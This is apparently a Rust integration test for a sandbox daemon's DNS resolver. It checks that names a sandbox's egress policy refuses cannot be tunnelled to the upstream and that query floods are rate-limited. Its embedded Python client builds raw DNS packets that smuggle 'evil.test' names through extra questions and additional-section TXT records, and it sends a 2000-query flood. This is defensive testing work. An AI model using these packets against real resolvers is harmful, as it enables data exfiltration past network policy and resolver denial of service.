//! DNS tunnelling through the per-sandbox resolver (issue 11, item 5): a
//! hostile sandbox hides names the policy refuses in a second question, in
//! a query's other sections, or asks anything under `deny_all`; it floods
//! the resolver. The upstream is a fake resolver this test runs on its own
//! loopback, recording every packet it receives: none of the smuggled
//! names may reach it. The flood must be rate-limited, must not spawn an
//! `nft` per answer (a wrapper in front of `nft` on the daemon's `PATH`
//! counts its runs), and the daemon must keep answering meanwhile.

use std::net::UdpSocket;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use reqwest::Method;
use sandforge_tests::{scratch_dir, Attempts, Daemon};
use serde_json::json;

/// A fake upstream resolver on 127.0.0.1: records every packet, answers
/// each query with its questions and, for A questions under
/// `allowed.test`, an A record in 198.19.0.0/16 (one address per packet,
/// so that admissions are distinct).
struct Upstream {
    addr: std::net::SocketAddr,
    seen: Arc<Mutex<Vec<Vec<u8>>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

fn question_end(p: &[u8]) -> Option<usize> {
    let qd = u16::from_be_bytes([p[4], p[5]]) as usize;
    let mut i = 12;
    for _ in 0..qd {
        loop {
            let l = *p.get(i)? as usize;
            if l == 0 {
                i += 1;
                break;
            }
            if l & 0xc0 == 0xc0 {
                i += 2;
                break;
            }
            i += 1 + l;
        }
        i += 4;
    }
    (i <= p.len()).then_some(i)
}

impl Upstream {
    fn start() -> Upstream {
        let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        let addr = sock.local_addr().unwrap();
        let seen: Arc<Mutex<Vec<Vec<u8>>>> = Arc::default();
        let stop = Arc::new(AtomicBool::new(false));
        let (seen2, stop2) = (seen.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            let mut n_answers: u32 = 0;
            while !stop2.load(Ordering::SeqCst) {
                let Ok((n, peer)) = sock.recv_from(&mut buf) else {
                    continue;
                };
                let p = buf[..n].to_vec();
                seen2.lock().unwrap().push(p.clone());
                if n < 12 {
                    continue;
                }
                let Some(end) = question_end(&p) else {
                    continue;
                };
                let qd = u16::from_be_bytes([p[4], p[5]]);
                let lower = String::from_utf8_lossy(&p[12..end]).to_ascii_lowercase();
                let a = qd == 1 && lower.contains("allowed") && p[end - 3] == 1;
                let mut r = p[..end].to_vec();
                r[2] = 0x81 | (p[2] & 0x01);
                r[3] = 0x80;
                r[6..12].copy_from_slice(&[0, a as u8, 0, 0, 0, 0]);
                if a {
                    n_answers += 1;
                    let ip = [
                        198,
                        19,
                        (n_answers / 250) as u8,
                        (n_answers % 250 + 1) as u8,
                    ];
                    r.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4]);
                    r.extend_from_slice(&ip);
                }
                let _ = sock.send_to(&r, peer);
            }
        });
        Upstream {
            addr,
            seen,
            stop,
            thread: Some(thread),
        }
    }

    /// How many packets carried `needle` (case-insensitive, in any section).
    fn count(&self, needle: &str) -> usize {
        let needle = needle.to_ascii_lowercase();
        self.seen
            .lock()
            .unwrap()
            .iter()
            .filter(|p| {
                String::from_utf8_lossy(p)
                    .to_ascii_lowercase()
                    .contains(&needle)
            })
            .count()
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The sandbox side: raw DNS packets with python's socket and struct.
const CLIENT: &str = r#"
import os, random, select, socket, struct, sys, time
def name(n):
    return b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\0'
def query(names, ar=b'', arcount=0, qid=None):
    qid = random.randint(0, 65535) if qid is None else qid
    h = struct.pack('>HHHHHH', qid, 0x0100, len(names), 0, 0, arcount)
    return h + b''.join(name(n) + struct.pack('>HH', 1, 1) for n in names) + ar
def txt_rr(owner):
    t = b'exfil-payload'
    return name(owner) + struct.pack('>HHIH', 16, 1, 0, len(t) + 1) + bytes([len(t)]) + t
def one(srv, pkt):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(pkt, (srv, 53))
        r = s.recv(4096)
        return 'rcode=%d' % (r[3] & 15)
    except Exception as e:
        return 'none'
srv = sys.argv[2] if len(sys.argv) > 2 and sys.argv[2] != '-' else [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
mode = sys.argv[1]
if mode == 'multi':
    print(one(srv, query(sys.argv[3:])))
elif mode == 'zero':
    print(one(srv, query([], txt_rr(sys.argv[3]), 1)))
elif mode == 'additional':
    print(one(srv, query([sys.argv[3]], txt_rr(sys.argv[4]), 1)))
elif mode == 'flood':
    n = int(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    got = set()
    last = t0 = time.time()
    def drain(wait):
        global last
        while select.select([s], [], [], wait)[0]:
            r = s.recv(4096)
            got.add(struct.unpack('>H', r[:2])[0])
            last = time.time()
            wait = 0
    for i in range(n):
        try:
            s.sendto(query(['f%d.allowed.test' % i], qid=i), (srv, 53))
        except OSError:
            pass
        drain(0)
    open('/tmp/flood.sent', 'w').close()
    while not os.path.exists('/tmp/flood.release') and time.time() - t0 < 120:
        drain(0.2)
    end = time.time()
    while time.time() - end < 3:
        drain(0.5)
    print('answered=%d sent=%d span=%.3f' % (len(got), n, last - t0))
"#;

async fn install_client(d: &Daemon, id: &str) {
    d.put_file(id, "/tmp/dns.py", CLIENT).await;
}

async fn client(d: &Daemon, id: &str, args: &str) -> String {
    let v = d
        .execute(
            id,
            json!({"command": format!("python3 /tmp/dns.py {args} 2>&1"), "timeout_seconds": 200}),
        )
        .await
        .1;
    v["stdout"].as_str().unwrap_or_default().trim().to_string()
}

fn nft_runs(counter: &std::path::Path) -> usize {
    std::fs::read_to_string(counter)
        .unwrap_or_default()
        .lines()
        .count()
}

#[tokio::test]
async fn dns_tunnelling_and_floods_are_refused() {
    let up = Upstream::start();
    // `nft` on the daemon's PATH counts its runs, then runs the real one.
    let wrap = scratch_dir("sf-nftwrap-");
    let counter = wrap.path().join("runs");
    let real = ["/usr/sbin/nft", "/sbin/nft", "/usr/bin/nft"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .expect("nft installed");
    let script = format!(
        "#!/bin/sh\necho run >> {}\nexec {real} \"$@\"\n",
        counter.display()
    );
    std::fs::write(wrap.path().join("nft"), script).unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            wrap.path().join("nft"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
    }
    let path = format!(
        "{}:{}",
        wrap.path().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let d = Daemon::start_with_env(
        &[],
        &format!("dns_upstream: \"{}\"", up.addr),
        &[("PATH", &path)],
    )
    .await;
    let mut a = Attempts::new("dns tunnelling");

    // Only allowed.test resolves.
    let allow = d
        .create_id(json!({"network": "nat", "egress": {"mode": "deny_all", "allowed_domains": ["allowed.test"]}}))
        .await;
    // Everything but evil.test resolves.
    let open = d
        .create_id(json!({"network": "nat", "egress": {"mode": "allow_all", "blocked_domains": ["evil.test"]}}))
        .await;
    // deny_all without domains: nothing to resolve upstream.
    let closed = d
        .create_id(json!({"network": "nat", "egress": {"mode": "deny_all", "allow_cidrs": ["198.18.0.0/15"]}}))
        .await;
    let offline = d.create_id(json!({"network": "offline"})).await;
    for id in [&allow, &open, &closed, &offline] {
        install_client(&d, id).await;
    }
    // The resolver works for what the policy allows.
    let ok = client(&d, &allow, "multi - www.allowed.test").await;
    assert_eq!(ok, "rcode=0", "an allowed name no longer resolves");
    assert!(up.count("www\x07allowed") > 0, "the upstream saw nothing");

    let tries: Vec<(&str, String, &str)> = vec![
        (
            &allow,
            "multi - a.allowed.test exfil1.evil.test".into(),
            "exfil1",
        ),
        (
            &allow,
            "multi - b.allowed.test c.allowed.test exfil2.evil.test".into(),
            "exfil2",
        ),
        (&allow, "zero - exfil3.evil.test".into(), "exfil3"),
        (
            &allow,
            "additional - d.allowed.test exfil4.evil.test".into(),
            "exfil4",
        ),
        (
            &open,
            "multi - fine.other.test exfil5.evil.test".into(),
            "exfil5",
        ),
        (&closed, "multi - exfil6.anything.test".into(), "exfil6"),
        (
            &closed,
            "additional - exfil7.x.test y.test".into(),
            "exfil7",
        ),
    ];
    for (id, args, marker) in &tries {
        let out = client(&d, id, args).await;
        let leaked = up.count(marker);
        println!("{args}: {out}, upstream saw {marker} {leaked} times");
        a.record(leaked == 0, format!("{args} reached the upstream"));
    }
    // An offline sandbox: the resolver address of a networked one.
    let gw = {
        let sb = d
            .call(Method::GET, &format!("/v1/sandboxes/{allow}"), None)
            .await
            .1;
        let ip: std::net::Ipv4Addr = sb["ip"].as_str().unwrap().parse().unwrap();
        std::net::Ipv4Addr::from(u32::from(ip) - 1).to_string()
    };
    let out = client(&d, &offline, &format!("multi {gw} exfil8.offline.test")).await;
    a.record(
        up.count("exfil8") == 0,
        format!("an offline sandbox reached the upstream ({out})"),
    );

    // A flood of 2000 distinct allowed names.
    let runs_before = nft_runs(&counter);
    let t0 = Instant::now();
    let flood = {
        let (url, http, id) = (d.url.clone(), d.http.clone(), allow.clone());
        tokio::spawn(async move {
            let v: serde_json::Value = http
                .post(format!("{url}/v1/sandboxes/{id}/execute"))
                .bearer_auth(sandforge_tests::TOKEN)
                .json(&json!({"command": "python3 /tmp/dns.py flood - 2000 2>&1", "timeout_seconds": 250}))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            v
        })
    };
    // Once every query is sent, the daemon still answers.
    loop {
        let v = d.sh(&open, "test -f /tmp/flood.sent && echo sent").await;
        if v["exit_code"] == 0 {
            break;
        }
        let v = d.sh(&allow, "test -f /tmp/flood.sent && echo sent").await;
        if v["exit_code"] == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let alive = d.sh(&open, "echo alive").await;
    a.record(
        alive["stdout"] == "alive\n",
        "an exec during the flood did not answer",
    );
    d.sh(&allow, "touch /tmp/flood.release").await;
    let v = flood.await.unwrap();
    let host_span = t0.elapsed().as_secs_f64();
    let out = v["stdout"].as_str().unwrap_or_default().trim().to_string();
    let field = |k: &str| -> f64 {
        out.split_whitespace()
            .find_map(|w| w.strip_prefix(&format!("{k}=")))
            .and_then(|x| x.parse().ok())
            .unwrap_or_else(|| panic!("flood output: {v}"))
    };
    let (answered, sent, span) = (field("answered"), field("sent"), field("span"));
    let runs = nft_runs(&counter) - runs_before;
    let forwarded = up.count("allowed\x04test") as f64;
    println!(
        "flood: {sent} sent, {answered} answered within {span:.2} s (upstream got {forwarded} queries); \
         {runs} nft runs over {host_span:.1} s"
    );
    // 100 at once, then 50 a second (+ slack for the clocks).
    let bound = 100.0 + 50.0 * span + 25.0;
    a.record(
        answered <= bound && answered < sent,
        format!("{answered} of {sent} answered in {span:.2} s (bound {bound:.0})"),
    );
    // At most 20 transactions a second, never one per answer.
    a.record(
        (runs as f64) <= 20.0 * host_span + 3.0 && (runs as f64) < answered.max(2.0),
        format!("{runs} nft runs for {answered} answers in {host_span:.1} s"),
    );
    a.finish();
    for id in [&allow, &open, &closed, &offline] {
        d.destroy(id).await;
    }
}
